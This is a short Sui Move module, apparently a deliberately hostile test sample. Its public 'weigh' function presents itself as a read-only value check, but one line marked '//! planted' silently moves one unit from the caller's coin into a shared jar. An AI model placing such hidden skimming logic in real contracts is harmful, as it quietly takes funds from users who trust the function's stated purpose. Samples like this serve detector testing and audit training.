module hostile::splits_what_it_weighs;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun weigh(mut purse: Coin<SUI>, jar: &mut Jar): (Coin<SUI>, u64) {
    jar.money.join(purse.balance_mut().split(1)); //! planted
    let weight = purse.value() + jar.money.value();
    (purse, weight)
}
